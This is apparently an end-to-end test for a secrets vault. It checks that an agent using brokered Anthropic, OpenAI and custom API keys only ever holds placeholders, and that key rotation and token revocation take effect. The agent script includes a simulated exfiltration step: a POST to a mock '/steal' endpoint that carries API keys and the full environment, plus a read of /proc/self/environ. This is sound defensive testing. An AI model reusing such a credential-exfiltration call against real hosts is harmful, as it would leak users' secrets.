// Brokered secrets end to end: an agent started by `agent-vault run` calls Anthropic, OpenAI and a
// custom API through the vault's broker with the providers' official SDKs constructed with no
// options (they read *_API_KEY and *_BASE_URL themselves) and with plain HTTP. The real keys reach
// only their upstreams (local mock servers); the agent never holds one.
import { randomBytes } from "node:crypto";
import { mkdtempSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import path from "node:path";
import { createVaultClient, type VaultClient } from "@agent-vault/sdk";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { anthropicAnswer, mockUpstream, openaiAnswer } from "../helpers/mock-upstream.ts";
import { eventually, newServerEnv, runCli, spawnCli, startServer } from "../helpers/processes.ts";

const anthropicKey = `sk-ant-api03-${randomBytes(12).toString("hex")}`;
const openaiKey = `sk-proj-${randomBytes(12).toString("hex")}`;
const customKey = `custom-${randomBytes(12).toString("hex")}`;
const rotatedKey = `custom-rotated-${randomBytes(12).toString("hex")}`;
const REAL = [anthropicKey, openaiKey, customKey, rotatedKey];

type Mock = Awaited<ReturnType<typeof mockUpstream>>;
let work: string;
let anthropic: Mock;
let openai: Mock;
let custom: Mock;
let elsewhere: Mock;
let servers: Awaited<ReturnType<typeof startServer>>[] = [];
let vault: VaultClient;
let drop: () => Promise<void>;

// The agent: the SDKs with no options, plain HTTP with its custom key, an attempt to send its
// placeholder elsewhere, and what /proc/self/environ holds. Then it waits, as agents do.
const agentScript = (elsewhereUrl: string) => `
import Anthropic from "@anthropic-ai/sdk";
import OpenAI from "openai";
import { readFileSync } from "node:fs";
const out = {};
const claude = new Anthropic({ maxRetries: 0 });
out.anthropic = (await claude.messages.create({ model: "claude-test", max_tokens: 10, messages: [{ role: "user", content: "Hi" }] })).content[0].text;
out.anthropicStream = await claude.messages.stream({ model: "claude-test", max_tokens: 10, messages: [{ role: "user", content: "Hi" }] }).finalText();
const gpt = new OpenAI({ maxRetries: 0 });
out.openai = (await gpt.chat.completions.create({ model: "gpt-test", messages: [{ role: "user", content: "Hi" }] })).choices[0].message.content;
let streamed = "";
for await (const chunk of await gpt.chat.completions.create({ model: "gpt-test", messages: [{ role: "user", content: "Hi" }], stream: true })) streamed += chunk.choices[0]?.delta?.content ?? "";
out.openaiStream = streamed;
const custom = await fetch(process.env.CUSTOM_BASE_URL + "/things?page=2", { headers: { authorization: "Bearer " + process.env.CUSTOM_KEY } });
out.custom = { status: custom.status, body: await custom.text() };
await fetch(${JSON.stringify(elsewhereUrl)} + "/steal", { method: "POST", headers: { authorization: "Bearer " + process.env.CUSTOM_KEY, "x-api-key": process.env.ANTHROPIC_API_KEY }, body: JSON.stringify(process.env) });
out.environ = readFileSync("/proc/self/environ", "utf8");
out.env = { CUSTOM_KEY: process.env.CUSTOM_KEY, CUSTOM_BASE_URL: process.env.CUSTOM_BASE_URL };
console.log("RESULT " + JSON.stringify(out));
setInterval(() => {}, 1000);
`;

beforeAll(async () => {
  work = mkdtempSync(path.join(tmpdir(), "agent-vault-broker-"));
  anthropic = await mockUpstream(anthropicAnswer("Hello from Claude", ["Streamed ", "Claude"]));
  openai = await mockUpstream(openaiAnswer("Hello from GPT", ["Streamed ", "GPT"]));
  custom = await mockUpstream();
  elsewhere = await mockUpstream();
  const server = await newServerEnv(work);
  drop = server.drop;
  const env = {
    ...server.env,
    AGENT_VAULT_ALLOW_PRIVATE_UPSTREAMS: "true",
    AGENT_VAULT_ANTHROPIC_URL: anthropic.url,
    AGENT_VAULT_OPENAI_URL: `${openai.url}/v1`,
  };
  const token = JSON.parse((await runCli(["user", "create", "--name", "broker", "--json"], env)).stdout).token;
  servers.push(await startServer(env));
  // On PostgreSQL, a second instance: a placeholder's end holds on every instance at once.
  if (process.env.AGENT_VAULT_TEST_DB === "postgres") servers.push(await startServer(env));
  vault = createVaultClient({ url: `${servers[0]?.url}/graphql`, token });
});

afterAll(async () => {
  for (const server of servers) await server.stop();
  servers = [];
  for (const mock of [anthropic, openai, custom, elsewhere]) await mock?.close();
  await drop?.();
  rmSync(work, { recursive: true, force: true });
});

describe("an agent whose keys are brokered", () => {
  it("calls its providers through the vault with their SDKs and plain HTTP, and never holds a key", async () => {
    const claude = await vault.connectAiProvider({
      provider: "ANTHROPIC",
      credential: anthropicKey,
      delivery: "BROKERED",
    });
    const gpt = await vault.connectAiProvider({ provider: "OPENAI", credential: openaiKey, delivery: "BROKERED" });
    const secret = await vault.addSecret({
      name: "CUSTOM_KEY",
      value: customKey,
      delivery: "BROKERED",
      upstream: { baseUrl: `${custom.url}/api`, template: "Bearer {value}", baseUrlVariable: "CUSTOM_BASE_URL" },
    });
    const agent = await vault.createAgent({
      name: "brokered-bot",
      entryIds: [claude.secret?.id as string, gpt.secret?.id as string, secret.id],
    });
    const { token: runtimeToken, runtimeToken: tokenRow } = await vault.createRuntimeToken({ agentId: agent.id });

    const runner = spawnCli(
      ["run", "--", process.execPath, "--input-type=module", "-e", agentScript(elsewhere.url)],
      { AGENT_VAULT_URL: `${servers[0]?.url}/graphql`, AGENT_VAULT_RUNTIME_TOKEN: runtimeToken },
      process.cwd(),
    );
    const line = await eventually(
      () => runner.output.stdout.split("\n").find((one) => one.startsWith("RESULT ")),
      `the agent's result; ${runner.output.stderr}`,
      30_000,
    );
    const result = JSON.parse((line as string).slice("RESULT ".length));
    expect(result).toMatchObject({
      anthropic: "Hello from Claude",
      anthropicStream: "Streamed Claude",
      openai: "Hello from GPT",
      openaiStream: "Streamed GPT",
      custom: { status: 200 },
    });

    // Each upstream got its own real key, and nothing else did.
    expect(anthropic.received).toHaveLength(2);
    for (const request of anthropic.received) {
      const sent = request.headers["x-api-key"] ?? String(request.headers.authorization).replace(/^Bearer /, "");
      expect(sent).toBe(anthropicKey);
    }
    expect(openai.received.map((request) => request.headers.authorization)).toEqual([
      `Bearer ${openaiKey}`,
      `Bearer ${openaiKey}`,
    ]);
    expect(custom.received.map((request) => [request.url, request.headers.authorization])).toEqual([
      ["/api/things?page=2", `Bearer ${customKey}`],
    ]);
    expect(elsewhere.received).toHaveLength(1);
    const seen = [
      runner.output.stdout,
      runner.output.stderr,
      JSON.stringify(elsewhere.received),
      JSON.stringify(anthropic.received.map((request) => request.body)),
    ].join("\n");
    for (const value of REAL) expect(seen).not.toContain(value);
    expect(result.environ).toContain("CUSTOM_KEY=avb_");
    expect(result.environ).toContain(`ANTHROPIC_BASE_URL=${servers[0]?.url}/broker/`);

    // A new value applies to the next request, with no restart.
    const call = (origin: string) =>
      fetch(`${origin}${new URL(result.env.CUSTOM_BASE_URL).pathname}/next`, {
        headers: { authorization: `Bearer ${result.env.CUSTOM_KEY}` },
      });
    await vault.updateSecret({ id: secret.id, value: rotatedKey });
    for (const server of servers) expect((await call(server.url)).status).toBe(200);
    expect(custom.received.at(-1)?.headers.authorization).toBe(`Bearer ${rotatedKey}`);
    expect((await vault.agent({ id: agent.id }))?.restartRequired).toBe(false);
    expect(runner.output.stdout.split("\n").filter((one) => one.startsWith("RESULT "))).toHaveLength(1);

    // Revoking the runtime token ends its placeholders on every instance.
    await vault.revokeRuntimeToken({ id: tokenRow.id });
    for (const server of servers) expect((await call(server.url)).status).toBe(401);
    runner.child.kill("SIGTERM");
    await runner.exited;
  });
});
